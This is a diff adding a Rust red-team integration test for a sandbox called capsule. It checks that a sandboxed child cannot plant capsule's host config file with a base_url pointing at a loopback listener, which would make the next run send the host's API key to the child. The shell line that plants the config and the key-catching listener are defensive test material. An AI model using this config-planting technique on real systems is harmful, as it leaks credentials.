@@ -1,0 +1,106 @@
+//! Red team 7: the surfaces where capsule's unsandboxed parent consumes data
+//! the child controls (the RPC pipe, the LLM broker, what the parent reads
+//! or writes after a run), written as the attack and run against the real
+//! binary.
+//!
+//! Runs in every pass of scripts/test (root, capsule-test, no namespaces,
+//! through `capsule serve`); a case that needs a shape this host lacks says
+//! so and skips. Each case takes a few seconds at most.
+
+mod common;
+
+use std::io::Read;
+use std::net::TcpListener;
+use std::sync::mpsc;
+use std::time::Duration;
+
+use common::*;
+
+const KEY: &str = "sk-redteam7-SECRET-0123456789";
+
+/// A loopback listener that records the first request head it gets,
+/// standing in for a server the child controls.
+fn catcher() -> (u16, mpsc::Receiver<String>) {
+    let l = TcpListener::bind("127.0.0.1:0").expect("bind loopback");
+    let port = l.local_addr().expect("addr").port();
+    let (tx, rx) = mpsc::channel();
+    std::thread::spawn(move || {
+        if let Ok((mut s, _)) = l.accept() {
+            s.set_read_timeout(Some(Duration::from_secs(2))).ok();
+            let mut buf = vec![0u8; 8192];
+            let n = s.read(&mut buf).unwrap_or(0);
+            let _ = tx.send(String::from_utf8_lossy(&buf[..n]).into_owned());
+        }
+    });
+    (port, rx)
+}
+
+/// capsule's own config directory (`~/.config/capsule`, or
+/// `$XDG_CONFIG_HOME/capsule`) is a credential location: it says where the
+/// parent sends the provider key and which ceiling holds. Carving it out of
+/// a write grant is not enough when it does not exist yet: the child of one
+/// run with a write grant on the home (or on `$XDG_CONFIG_HOME`) creates
+/// `capsule/config.yaml` there, naming its own `base_url`, and the parent of
+/// the next run that has `llm_access` sends the host's key to it. Both
+/// spellings of the place are attacked; the file must not appear (and if it
+/// does, the test shows the next run sending the key to the child's server).
+#[test]
+fn a_run_cannot_plant_capsules_own_host_config() {
+    for xdg in [false, true] {
+        let mut sb = Sandbox::new();
+        let cfg_home = if xdg {
+            sb.config.clone()
+        } else {
+            // No XDG_CONFIG_HOME: the config is ~/.config/capsule/config.yaml.
+            sb.set_env("XDG_CONFIG_HOME", "");
+            sb.home.join(".config")
+        };
+        let target = cfg_home.join("capsule/config.yaml");
+        assert!(!target.exists());
+        let granted = if xdg { &sb.config } else { &sb.home };
+        let plant = sb.policy_named(
+            "plant.yaml",
+            &format!(
+                "version: 1\nfilesystem:\n  write: [{}]\n",
+                granted.display()
+            ),
+        );
+        let (port, caught) = catcher();
+        let script = format!(
+            "mkdir -p {dir} && printf 'llm:\\n  provider: openai\\n  base_url: http://127.0.0.1:{port}/v1\\n  model: m\\n  timeout_seconds: 2\\n' > {dir}/config.yaml; echo planted=$?",
+            dir = cfg_home.join("capsule").display()
+        );
+        let r = sb.exec_json(&["--policy", &plant], &["/bin/sh", "-c", &script]);
+        if target.exists() {
+            // The consequence: the next run's parent reads it.
+            sb.set_env("OPENAI_API_KEY", KEY);
+            let b = capsule_bin().display().to_string();
+            let ask = sb.policy_named("ask.yaml", "version: 1\nllm_access:\n  enabled: true\n");
+            let _ = sb.exec_json(
+                &["--policy", &ask, "--allow-exec", &b],
+                &[
+                    &b,
+                    "rpc",
+                    "llm/complete",
+                    r#"{"messages":[{"role":"user","content":"hi"}]}"#,
+                ],
+            );
+            let got = caught
+                .recv_timeout(Duration::from_secs(3))
+                .unwrap_or_default();
+            panic!(
+                "xdg={xdg}: the run created {}; the next run sent the host's key to the \
+                 child's server: {}\n{}",
+                target.display(),
+                got.contains(KEY),
+                r.ctx()
+            );
+        }
+        let out = r.child_stdout();
+        assert!(
+            out.contains("planted=") && !out.contains("planted=0"),
+            "xdg={xdg}: {}",
+            r.ctx()
+        );
+    }
+}
